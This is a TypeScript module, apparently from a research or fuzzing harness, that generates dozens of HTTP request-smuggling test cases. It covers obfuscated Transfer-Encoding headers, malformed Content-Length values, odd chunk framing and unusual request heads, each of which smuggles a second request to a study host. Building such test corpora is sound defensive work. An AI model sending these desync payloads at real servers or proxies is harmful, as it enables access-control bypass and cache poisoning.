/** Bytes that two readers of HTTP may understand as different numbers of requests (S13). */
export interface DesyncCase {
  readonly name: string;
  /** `path` is the case's own; what is smuggled asks for `{path}/smuggled`. */
  readonly bytes: (path: string) => string;
}

const CRLF = '\r\n';
const HOST = 'Host: study.example';

/** A POST with these header lines, and this behind its empty line. */
function post(
  headers: readonly string[],
  body: (smuggled: string) => string,
  end = CRLF,
): DesyncCase['bytes'] {
  return (path) => {
    const smuggled = `GET ${path}/smuggled HTTP/1.1${CRLF}${HOST}${CRLF}${CRLF}`;
    return [`POST ${path} HTTP/1.1`, HOST, ...headers].join(end) + end + end + body(smuggled);
  };
}

const lengthOf = (text: string): number => Buffer.byteLength(text);
/** A chunked body that ends at once, with more behind it. */
const endThen = (smuggled: string): string => `0${CRLF}${CRLF}${smuggled}`;
/** A chunk with what is smuggled in it. */
const chunkOf = (smuggled: string): string =>
  `${lengthOf(smuggled).toString(16)}${CRLF}${smuggled}${CRLF}0${CRLF}${CRLF}`;

/** Both a length and chunks, and ways to hide either from one of two readers. */
const TRANSFER_ENCODINGS: readonly (readonly [name: string, line: string])[] = [
  ['plain', 'Transfer-Encoding: chunked'],
  ['upper case', 'TRANSFER-ENCODING: CHUNKED'],
  ['a space before the colon', 'Transfer-Encoding : chunked'],
  ['a tab before the colon', 'Transfer-Encoding\t: chunked'],
  ['a tab before the value', 'Transfer-Encoding:\tchunked'],
  ['no space', 'Transfer-Encoding:chunked'],
  ['a vertical tab', 'Transfer-Encoding: \x0bchunked'],
  ['a form feed behind', 'Transfer-Encoding: chunked\x0c'],
  ['a NUL behind', 'Transfer-Encoding: chunked\0'],
  ['an unknown coding', 'Transfer-Encoding: xchunked'],
  ['identity', 'Transfer-Encoding: identity'],
  ['a list that ends in chunked', 'Transfer-Encoding: identity, chunked'],
  ['a list that does not', 'Transfer-Encoding: chunked, identity'],
  ['gzip before', 'Transfer-Encoding: gzip, chunked'],
  ['quotes', 'Transfer-Encoding: "chunked"'],
  ['a parameter', 'Transfer-Encoding: chunked;x=1'],
  ['obs-fold', `Transfer-Encoding:${CRLF} chunked`],
  ['obs-fold by a tab', `Transfer-Encoding:${CRLF}\tchunked`],
  ['twice', `Transfer-Encoding: chunked${CRLF}Transfer-Encoding: chunked`],
  ['twice, the second unknown', `Transfer-Encoding: chunked${CRLF}Transfer-Encoding: x`],
  ['twice, the first unknown', `Transfer-Encoding: x${CRLF}Transfer-Encoding: chunked`],
  ['behind a bare CR', 'X: y\rTransfer-Encoding: chunked'],
  ['behind a bare LF', 'X: y\nTransfer-Encoding: chunked'],
  ['an underscore', 'Transfer_Encoding: chunked'],
  ['named by Connection', `Connection: Transfer-Encoding${CRLF}Transfer-Encoding: chunked`],
  ['a space before the name', ' Transfer-Encoding: chunked'],
];

const LENGTHS: readonly (readonly [name: string, lines: (length: number) => readonly string[]])[] = [
  ['two, the first is zero', (length) => ['Content-Length: 0', `Content-Length: ${length}`]],
  ['two, the second is zero', (length) => [`Content-Length: ${length}`, 'Content-Length: 0']],
  ['two that agree', (length) => [`Content-Length: ${length}`, `Content-Length: ${length}`]],
  ['a list', (length) => [`Content-Length: 0, ${length}`]],
  ['a plus', (length) => [`Content-Length: +${length}`]],
  ['a minus', () => ['Content-Length: -1']],
  ['hexadecimal', (length) => [`Content-Length: 0x${length.toString(16)}`]],
  ['a leading zero', (length) => [`Content-Length: 0${length}`]],
  ['a space inside', (length) => [`Content-Length: 0 ${length}`]],
  ['a fraction', (length) => [`Content-Length: ${length}.0`]],
  ['an exponent', () => ['Content-Length: 1e1']],
  ['a space before the colon', (length) => [`Content-Length : ${length}`]],
  ['obs-fold', (length) => [`Content-Length:${CRLF} ${length}`]],
  ['a bare CR before', (length) => [`X: y\rContent-Length: ${length}`]],
  ['a bare LF before', (length) => [`X: y\nContent-Length: ${length}`]],
  ['more than 64 bits', () => ['Content-Length: 18446744073709551616']],
  ['nothing', () => ['Content-Length:']],
  ['named by Connection', (length) => ['Connection: Content-Length', `Content-Length: ${length}`]],
  ['zero, with a body behind', () => ['Content-Length: 0']],
];

const CHUNKS: readonly (readonly [name: string, body: (smuggled: string) => string])[] = [
  ['an extension', (text) => `0;a=b${CRLF}${CRLF}${text}`],
  ['an extension with a bare LF', (text) => `2;\nxx${CRLF}0${CRLF}${CRLF}${text}`],
  ['an extension with a bare CR', (text) => `2;a\rb${CRLF}xx${CRLF}0${CRLF}${CRLF}${text}`],
  ['a quoted extension with an end of line', (text) => `2;a="${CRLF}xx${CRLF}0${CRLF}${CRLF}${text}"`],
  ['an end of line that is a bare LF', (text) => `2\nxx\n0\n\n${text}`],
  ['a size behind 0x', (text) => `0x2${CRLF}xx${CRLF}0${CRLF}${CRLF}${text}`],
  ['a size with a plus', (text) => `+2${CRLF}xx${CRLF}0${CRLF}${CRLF}${text}`],
  ['a size with a minus', (text) => `-2${CRLF}xx${CRLF}0${CRLF}${CRLF}${text}`],
  ['a size with a space behind', (text) => `2 ${CRLF}xx${CRLF}0${CRLF}${CRLF}${text}`],
  ['a size with a space before', (text) => ` 2${CRLF}xx${CRLF}0${CRLF}${CRLF}${text}`],
  ['a size with an underscore', (text) => `1_0${CRLF}xx${CRLF}0${CRLF}${CRLF}${text}`],
  ['a size of more than 64 bits', (text) => `10000000000000002${CRLF}xx${CRLF}0${CRLF}${CRLF}${text}`],
  ['an empty size', (text) => `${CRLF}${CRLF}${text}`],
  ['a chunk longer than its size', (text) => `2${CRLF}xxyy${CRLF}0${CRLF}${CRLF}${text}`],
  ['a chunk without its end of line', (text) => `2${CRLF}xx0${CRLF}${CRLF}${text}`],
  ['a last chunk of many zeros', (text) => `0000${CRLF}${CRLF}${text}`],
  ['trailers', (text) => `0${CRLF}Content-Length: ${lengthOf(text)}${CRLF}${CRLF}${text}`],
  ['a trailer that is an encoding', (text) => `0${CRLF}Transfer-Encoding: chunked${CRLF}${CRLF}${text}`],
  ['an end without its last line', (text) => `0${CRLF}${text}`],
];

/** Requests whose first line or head is what is odd. */
const HEADS: readonly (readonly [name: string, bytes: DesyncCase['bytes']])[] = [
  ['two requests, honestly', (path) => `GET ${path} HTTP/1.1${CRLF}${HOST}${CRLF}${CRLF}GET ${path}/smuggled HTTP/1.1${CRLF}${HOST}${CRLF}${CRLF}`],
  ['HTTP/1.0 with chunks', (path) => `POST ${path} HTTP/1.0${CRLF}${HOST}${CRLF}Transfer-Encoding: chunked${CRLF}${CRLF}0${CRLF}${CRLF}GET ${path}/smuggled HTTP/1.1${CRLF}${HOST}${CRLF}${CRLF}`],
  ['HTTP/0.9', (path) => `GET ${path}${CRLF}GET ${path}/smuggled HTTP/1.1${CRLF}${HOST}${CRLF}${CRLF}`],
  ['an absolute address', (path) => `GET http://other.example${path} HTTP/1.1${CRLF}${HOST}${CRLF}${CRLF}`],
  ['two hosts', (path) => `GET ${path} HTTP/1.1${CRLF}${HOST}${CRLF}Host: other.example${CRLF}${CRLF}`],
  ['no host', (path) => `GET ${path} HTTP/1.1${CRLF}${CRLF}`],
  ['spaces in the first line', (path) => `GET  ${path}  HTTP/1.1${CRLF}${HOST}${CRLF}${CRLF}`],
  ['a GET with a body', (path) => `GET ${path} HTTP/1.1${CRLF}${HOST}${CRLF}Content-Length: 5${CRLF}${CRLF}helloGET ${path}/smuggled HTTP/1.1${CRLF}${HOST}${CRLF}${CRLF}`],
  ['a GET with chunks', (path) => `GET ${path} HTTP/1.1${CRLF}${HOST}${CRLF}Transfer-Encoding: chunked${CRLF}${CRLF}0${CRLF}${CRLF}`],
  ['a HEAD with a body', (path) => `HEAD ${path} HTTP/1.1${CRLF}${HOST}${CRLF}Content-Length: 3${CRLF}${CRLF}abcGET ${path}/smuggled HTTP/1.1${CRLF}${HOST}${CRLF}${CRLF}`],
  ['Expect: 100-continue', (path) => `POST ${path} HTTP/1.1${CRLF}${HOST}${CRLF}Expect: 100-continue${CRLF}Content-Length: 4${CRLF}${CRLF}bodyGET ${path}/smuggled HTTP/1.1${CRLF}${HOST}${CRLF}${CRLF}`],
  ['an upgrade to h2c', (path) => `GET ${path} HTTP/1.1${CRLF}${HOST}${CRLF}Connection: Upgrade, HTTP2-Settings${CRLF}Upgrade: h2c${CRLF}HTTP2-Settings: AAMAAABkAAQAAP__${CRLF}${CRLF}GET ${path}/smuggled HTTP/1.1${CRLF}${HOST}${CRLF}${CRLF}`],
  ['a WebSocket that is none', (path) => `GET ${path} HTTP/1.1${CRLF}${HOST}${CRLF}Connection: Upgrade${CRLF}Upgrade: websocket${CRLF}Sec-WebSocket-Version: 777${CRLF}${CRLF}GET ${path}/smuggled HTTP/1.1${CRLF}${HOST}${CRLF}${CRLF}`],
  ['a NUL in a header', (path) => `GET ${path} HTTP/1.1${CRLF}${HOST}${CRLF}X: a\0b${CRLF}${CRLF}`],
  ['a header without a name', (path) => `GET ${path} HTTP/1.1${CRLF}${HOST}${CRLF}: x${CRLF}${CRLF}`],
  ['a header without a colon', (path) => `GET ${path} HTTP/1.1${CRLF}${HOST}${CRLF}GET ${path}/smuggled HTTP/1.1${CRLF}${CRLF}`],
  ['lines that end in a bare LF', (path) => `GET ${path} HTTP/1.1\n${HOST}\n\nGET ${path}/smuggled HTTP/1.1\n${HOST}\n\n`],
  ['an end of the head that is a bare CR', (path) => `GET ${path} HTTP/1.1${CRLF}${HOST}\r\rGET ${path}/smuggled HTTP/1.1${CRLF}${HOST}${CRLF}${CRLF}`],
  ['an encoded end of line in the path', (path) => `GET ${path}%0d%0a%0d%0aGET%20${path}/smuggled HTTP/1.1${CRLF}${HOST}${CRLF}${CRLF}`],
  ['an unknown method', (path) => `SMUGGLE ${path} HTTP/1.1${CRLF}${HOST}${CRLF}${CRLF}GET ${path}/smuggled HTTP/1.1${CRLF}${HOST}${CRLF}${CRLF}`],
  ['CONNECT', (path) => `CONNECT study.example:443 HTTP/1.1${CRLF}${HOST}${CRLF}${CRLF}GET ${path}/smuggled HTTP/1.1${CRLF}${HOST}${CRLF}${CRLF}`],
]; // prettier-ignore

/** Every case. */
export const DESYNC_CASES: readonly DesyncCase[] = [
  ...TRANSFER_ENCODINGS.flatMap(([name, line]) => [
    {
      name: `TE.CL: the encoding ${name}`,
      bytes: post([line, 'Content-Length: 4'], chunkOf),
    },
    {
      name: `CL.TE: the encoding ${name}`,
      bytes: (path: string) => {
        const whole = post([line], endThen)(path);
        const length = lengthOf(whole.slice(whole.indexOf(`0${CRLF}${CRLF}GET`)));
        return whole.replace(HOST, `${HOST}${CRLF}Content-Length: ${length}`);
      },
    },
    { name: `TE alone: the encoding ${name}`, bytes: post([line], endThen) },
  ]),
  ...LENGTHS.map(([name, lines]) => ({
    name: `CL: ${name}`,
    bytes: (path: string) => {
      const smuggled = `GET ${path}/smuggled HTTP/1.1${CRLF}${HOST}${CRLF}${CRLF}`;
      return post(lines(lengthOf(smuggled)), (text) => text)(path);
    },
  })),
  ...CHUNKS.map(([name, body]) => ({
    name: `chunks: ${name}`,
    bytes: post(['Transfer-Encoding: chunked'], body),
  })),
  ...HEADS.map(([name, bytes]) => ({ name: `head: ${name}`, bytes })),
];
